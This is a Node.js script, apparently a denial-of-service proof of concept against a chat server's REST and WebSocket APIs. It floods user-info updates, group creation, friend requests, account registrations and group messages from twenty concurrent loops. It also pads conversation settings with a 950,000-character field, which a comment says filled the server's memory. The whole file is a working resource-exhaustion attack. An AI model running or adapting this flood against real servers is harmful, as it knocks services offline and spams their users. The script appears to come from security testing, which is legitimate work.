// Calls a server as fast as it answers, then exits: `node rest-flood.mjs <origin> <kind> <token> <seconds> [<what>]`.
// <what> is a registration code, or the group that messages go to.
import protobuf from "protobufjs";
import { WebSocket } from "ws";

const [origin, kind, token, seconds, what = ""] = process.argv.slice(2);
const until = Date.now() + Number(seconds) * 1000;
const ex = "x".repeat(950_000);
const floods = {
  names: (index) => ["/user/update_user_info_ex", { userInfo: { userID: "mallory", nickname: `M${index}` } }],
  groups: (index) => [
    "/group/create_group",
    {
      ownerUserID: "mallory",
      memberUserIDs: ["friend0"],
      groupInfo: { groupName: `G${index}`, groupType: 2 },
    },
  ],
  requests: (index) => [
    "/friend/add_friend",
    { fromUserID: "mallory", toUserID: `friend${index % 300}`, reqMsg: "hi" },
  ],
  registrations: (index) => [
    "/account/register",
    {
      verifyCode: what,
      platform: 5,
      user: {
        areaCode: "+86",
        phoneNumber: "13700000077",
        nickname: `R${index}`,
        password: "0123456789abcdef0123456789abcdef",
      },
    },
    "/chat",
  ],
  settings: (index) => [
    "/conversation/set_conversations",
    {
      userIDs: ["mallory"],
      conversation: {
        conversationID: ["mallory", `friend${index % 250}`].sort().join("_").replace(/^/, "si_"),
        conversationType: 1,
        userID: `friend${index % 250}`,
        groupID: "",
        ex,
      },
    },
  ],
};
let next = 0;
let done = 0;

const { root } = protobuf.parse(
  `syntax = "proto3";
  message MsgData {
    string sendID = 1; string groupID = 3; string clientMsgID = 4; int32 senderPlatformID = 6; int32 sessionType = 9;
    int32 msgFrom = 10; int32 contentType = 11; bytes content = 12; int64 createTime = 16; int32 status = 17;
  }`,
  { keepCase: true },
);

/** Sends twenty messages at a time over a single connection, framed as the JS SDK does. */
async function sendMessages() {
  const type = root.lookupType("MsgData");
  const query = `sendID=mallory&platformID=5&operationID=flood&sdkType=js&isMsgResp=true&token=${token}`;
  const socket = new WebSocket(`${origin.replace("http", "ws")}/msg_gateway?${query}`);
  const waiting = new Map();
  socket.on("message", (data, isBinary) => {
    if (!isBinary) return;
    const { msgIncr, errCode } = JSON.parse(data.toString());
    if (waiting.has(msgIncr) && errCode === 0) done += 1;
    waiting.get(msgIncr)?.();
    waiting.delete(msgIncr);
  });
  await new Promise((resolve) => socket.once("message", resolve));
  async function send() {
    while (Date.now() < until) {
      next += 1;
      const message = {
        ...{ sendID: "mallory", groupID: what, clientMsgID: `${Date.now()}x${next}`, senderPlatformID: 5 },
        ...{ sessionType: 3, msgFrom: 100, contentType: 101, createTime: Date.now(), status: 1 },
        content: Buffer.from(JSON.stringify({ content: `flood ${next}` })),
      };
      const data = Buffer.from(type.encode(message).finish()).toString("base64");
      const msgIncr = String(next);
      const frame = { reqIdentifier: 1003, token, sendID: "mallory", operationID: "flood", msgIncr, data };
      socket.send(Buffer.from(JSON.stringify(frame)), { binary: true });
      await new Promise((resolve) => {
        waiting.set(msgIncr, resolve);
        setTimeout(resolve, Math.max(0, until - Date.now()));
      });
    }
  }
  await Promise.all(Array.from({ length: 20 }, send));
}

async function loop() {
  while (Date.now() < until) {
    const [path, body, mount = "/api"] = floods[kind](next);
    next += 1;
    const response = await fetch(`${origin}${mount}${path}`, {
      method: "POST",
      headers: { "Content-Type": "application/json", operationID: "flood", token },
      body: JSON.stringify(body),
    }).catch(() => undefined);
    const answer = await response?.json().catch(() => undefined);
    if (answer?.errCode === 0) done += 1;
    // A settings flood also reads the settings back, because that filled the server's memory.
    if (kind === "settings" && next % 100 === 0) {
      await fetch(`${origin}/api/conversation/get_all_conversations`, {
        method: "POST",
        headers: { "Content-Type": "application/json", operationID: "flood", token },
        body: JSON.stringify({ ownerUserID: "mallory" }),
      }).then(
        (answer) => answer.arrayBuffer(),
        () => {},
      );
    }
  }
}

console.log("flooding");
await (kind === "messages" ? sendMessages() : Promise.all(Array.from({ length: 20 }, loop)));
console.log(`done ${done} of ${next}`);
process.exit(0);
